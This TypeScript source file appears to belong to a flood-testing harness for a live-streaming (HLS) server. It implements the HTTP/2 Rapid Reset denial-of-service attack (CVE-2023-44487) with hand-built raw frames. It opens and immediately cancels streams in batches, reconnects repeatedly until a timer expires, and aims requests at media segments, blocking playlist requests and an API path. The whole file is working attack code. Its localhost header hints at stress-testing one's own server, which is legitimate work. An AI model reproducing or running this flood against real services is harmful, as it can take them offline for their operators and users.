import { setTimeout as wait } from 'node:timers/promises'
import { openFlood } from './flood-connections.ts'
import type { FloodPlan, FloodReport } from './flood-plan.ts'

/** RFC 9113: sections 3.4 and 6. */
const preface = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n')
const frameType = { headers: 1, reset: 3, settings: 4, ping: 6, goaway: 7 }
const endOfStreamAndHeaders = 5
const acknowledged = 1
const cancel = Buffer.from([0, 0, 0, 8])
/** Node gives client streams odd numbers up to this; then a new connection is needed. */
const lastStream = 2 ** 31 - 1
const atOnce = 100

/** Opens streams over HTTP/2 and resets each at once (CVE-2023-44487), until the time is over. */
export async function resetStreams(
  plan: FloodPlan,
  report: FloodReport,
  address: string,
  isOver: () => boolean,
): Promise<void> {
  const headers = [...paths(plan)].map(headerBlock)
  let number = 0
  while (!isOver()) {
    const socket = openFlood(plan, address, 'h2')
    const timer = setTimeout(() => socket.destroy(), plan.seconds * 1000)
    let isClosed = false
    const closed = new Promise<void>((resolve) => {
      socket.once('close', () => {
        isClosed = true
        resolve()
      })
    })
    const happens = (event: string) => new Promise((resolve) => socket.once(event, resolve))
    let unread = Buffer.alloc(0)
    socket.on('data', (bytes: Buffer) => {
      unread = Buffer.concat([unread, bytes])
      for (
        ;
        unread.length >= 9 && unread.length >= 9 + unread.readUIntBE(0, 3);
        unread = unread.subarray(9 + unread.readUIntBE(0, 3))
      ) {
        const [type, flags] = [unread[3], unread[4] ?? 0]
        if (type === frameType.headers) report.statuses.answered = (report.statuses.answered ?? 0) + 1
        if (type === frameType.goaway) report.statuses.goaway = (report.statuses.goaway ?? 0) + 1
        if (type === frameType.settings && !(flags & acknowledged))
          socket.write(frame(frameType.settings, acknowledged, 0))
        if (type === frameType.ping && !(flags & acknowledged)) {
          socket.write(frame(frameType.ping, acknowledged, 0, unread.subarray(9, 17)))
        }
      }
    })
    await Promise.race([happens('secureConnect'), closed])
    socket.write(Buffer.concat([preface, frame(frameType.settings, 0, 0)]))
    for (let stream = 1; stream < lastStream && !isClosed && !isOver(); ) {
      const frames: Buffer[] = []
      for (let count = 0; count < atOnce; count += 1, stream += 2, number += 1) {
        frames.push(frame(frameType.headers, endOfStreamAndHeaders, stream, headers[number % headers.length]))
        frames.push(frame(frameType.reset, 0, stream, cancel))
      }
      report.requests += atOnce
      const isTaken = socket.write(Buffer.concat(frames))
      await (isTaken ? wait(0) : Promise.race([happens('drain'), closed]))
    }
    socket.destroy()
    await closed
    clearTimeout(timer)
    report.bytes += socket.bytesRead
    if (isOver()) return
    report.closed += 1
  }
}

/** Media from the cache, media that is held until it exists, and calls. */
function* paths({ segments, streamId }: FloodPlan): Generator<string> {
  for (const segment of segments) {
    yield segment
    yield segment.replace(/seg-(\d+)\.m4s.*/, (_, sequence) => `media.m3u8?_HLS_msn=${Number(sequence) + 20}`)
    yield segment.replace(/seg-(\d+)\.m4s.*/, (_, sequence) => `part-${Number(sequence) + 20}-0.m4s`)
    yield `/api/streams/info/bench0`
    yield `/live/${streamId}/master.m3u8`
  }
}

/** Without compression, but for the static table (RFC 7541, appendix A). */
function headerBlock(path: string): Buffer {
  const literal = (name: number, value: string) => Buffer.from([name, ...integer(value.length), ...Buffer.from(value)])
  return Buffer.concat([Buffer.from([0x82, 0x87]), literal(0x04, path), literal(0x01, '127.0.0.1')])
}

/** A string's length, without Huffman (section 5.1). */
function integer(value: number): number[] {
  return value < 127 ? [value] : [127, value - 127]
}

function frame(type: number, flags: number, stream: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const header = Buffer.alloc(9)
  header.writeUIntBE(payload.length, 0, 3)
  header.writeUInt8(type, 3)
  header.writeUInt8(flags, 4)
  header.writeUInt32BE(stream, 5)
  return Buffer.concat([header, payload])
}
